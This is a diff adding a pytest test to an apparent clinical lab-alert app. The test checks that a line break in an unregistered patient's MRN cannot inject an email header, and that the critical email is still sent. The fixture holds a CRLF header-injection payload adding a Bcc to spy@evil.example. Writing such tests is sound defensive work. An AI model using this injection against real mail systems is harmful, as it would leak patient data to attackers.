@@ -353,3 +353,17 @@ def test_the_antibiotic_time_of_an_unregistered_mrns_alert_is_recorded(client, t
     alert.refresh_from_db()
     assert alert.antibiotics_given_at is not None
     assert "Antibiotic time recorded for NEW-9." in client.get("/alerts/").content.decode()
+
+
+def test_a_line_break_in_an_unregistered_mrn_does_not_stop_its_critical_email(team, admin_user, mailoutbox):
+    """The MRN goes into the subject; a header cannot hold a line break (BadHeaderError on every attempt)."""
+    importers.import_file("lab.csv", f'{HEADER}\n"NEW-9\r\nBcc: spy@evil.example",{_at(2)},0.2,,,10^9/L,N-9\n',
+                          source=Source.IMPORT)
+    alert = _unregistered().get()
+    emails = alert.deliveries.filter(channel=Delivery.Channel.EMAIL)
+    assert emails.exists()
+    assert {alerts.deliver(d.pk).status for d in emails} == {Delivery.Status.SENT}
+    assert len(mailoutbox) == emails.count()
+    for message in mailoutbox:
+        assert "\n" not in message.subject and "\r" not in message.subject and "NEW-9" in message.subject
+        assert message.bcc == [] and "spy@evil.example" not in message.recipients()
